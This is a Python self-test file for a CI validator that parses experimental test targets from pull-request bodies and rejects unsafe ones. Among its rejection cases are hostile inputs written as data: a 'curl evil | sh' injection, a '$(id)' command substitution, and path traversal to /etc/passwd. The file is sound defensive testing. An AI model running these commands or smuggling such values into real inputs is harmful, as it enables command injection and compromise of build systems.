"""The built-in cases of ``experimental_test_scope.py --selftest``.

They run without pytest (CI runs the check from the base branch before anything of the pull
request is installed): the block, the targets, the chunks and the existence check, each on a
case that must pass and on cases that must be rejected with the rule they break.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

from .block import BODY_ROOT, experimental_changes, parse_body
from .errors import ScopeError
from .statuses import STATUS_DESCRIPTION_LIMIT, chunk_targets
from .targets import check_exists, parse_targets


def _expect_ok(func, arg, expected) -> str | None:  # type: ignore[no-untyped-def]
    try:
        got = func(arg)
    except ScopeError as exc:
        return f"{arg!r}: expected {expected!r}, got error {exc}"
    return None if got == expected else f"{arg!r}: expected {expected!r}, got {got!r}"


def _expect_error(func, arg, needle: str) -> str | None:  # type: ignore[no-untyped-def]
    try:
        got = func(arg)
    except ScopeError as exc:
        return None if needle in str(exc) else f"{arg!r}: error {exc!s} lacks {needle!r}"
    return f"{arg!r}: expected an error containing {needle!r}, got {got!r}"


def selftest() -> list[str]:
    """Run built-in cases; return the failures (empty when all pass)."""
    failures: list[str | None] = []
    body = "x\n```experimental-tests\n# example\ntests/experimental/test_a.py  # why\n```\n"
    failures += [
        _expect_ok(parse_body, body, ["tests/experimental/test_a.py"]),
        _expect_ok(
            parse_body,
            "```experimental-tests\ntests/experimental/\ntests/experimental/\n```",
            ["tests/experimental/"],
        ),
        _expect_ok(
            parse_targets,
            "tests/gemm/test_x.py  tests/a.py::TestA::test_b\ttests/gemm/test_x.py",
            ["tests/gemm/test_x.py", "tests/a.py::TestA::test_b"],
        ),
        _expect_error(parse_body, "no block here", "no ```experimental-tests block"),
        _expect_error(parse_body, "```experimental-tests\n# only\n```", "is empty"),
        _expect_error(
            parse_body,
            "```experimental-tests\ntests/experimental/a.py\n```\n"
            "```experimental-tests\ntests/experimental/b.py\n```",
            "2 ```experimental-tests blocks",
        ),
        _expect_error(parse_body, "```experimental-tests\ntests/x.py\n```", "not under"),
        _expect_error(parse_targets, "tests/a.py; curl evil | sh", "shell metacharacter"),
        _expect_error(parse_targets, "tests/../etc/passwd", "contains '..'"),
        _expect_error(parse_targets, "/etc/passwd", "absolute path"),
        _expect_error(parse_targets, "--collect-only", "starts with '-'"),
        _expect_error(parse_targets, "`tests/a.py`", "backtick"),
        _expect_error(parse_targets, "tests/$(id).py", "command substitution"),
        _expect_error(parse_targets, "tests/*.py", "glob"),
        _expect_error(parse_targets, "tests/'a'.py", "quote"),
        _expect_error(parse_targets, "tests/a\u00a0b.py", "whitespace"),
        _expect_error(parse_targets, "tests/é.py", "outside [A-Za-z0-9_./-]"),
        _expect_error(parse_targets, "tests/a::test_b", "only allowed after a .py"),
        _expect_error(parse_targets, "", "no targets"),
        _expect_error(lambda t: chunk_targets([t]), "tests/" + "a" * 140, "longer than"),
    ]
    changed = ["README.md", " tests/experimental/test_a.py", "flashinfer/norm.py"]
    if experimental_changes(changed) != ["tests/experimental/test_a.py"]:
        failures.append(f"experimental_changes({changed!r}) missed the experimental test")
    if experimental_changes(["flashinfer/experimentalish.py", "docs/x.md"]):
        failures.append("experimental_changes matched a path outside the experimental folders")
    long = [f"tests/experimental/feature_{i}/test_{'x' * i}.py" for i in range(12)]
    chunks = chunk_targets(long)
    if (
        any(len(c) > STATUS_DESCRIPTION_LIMIT for c in chunks)
        or " ".join(chunks).split(" ") != long
    ):
        failures.append(f"chunking round trip failed: {chunks!r}")
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "tests" / "experimental").mkdir(parents=True)
        (Path(tmp) / "tests" / "experimental" / "test_a.py").write_text("")
        try:
            check_exists(["tests/experimental/test_a.py::test_x"], tmp, BODY_ROOT)
        except ScopeError as exc:
            failures.append(f"check_exists rejected an existing file: {exc}")
        failures.append(
            _expect_error(
                lambda t: check_exists([t], tmp, BODY_ROOT),
                "tests/experimental/test_missing.py",
                "does not exist",
            )
        )
    return [f for f in failures if f]
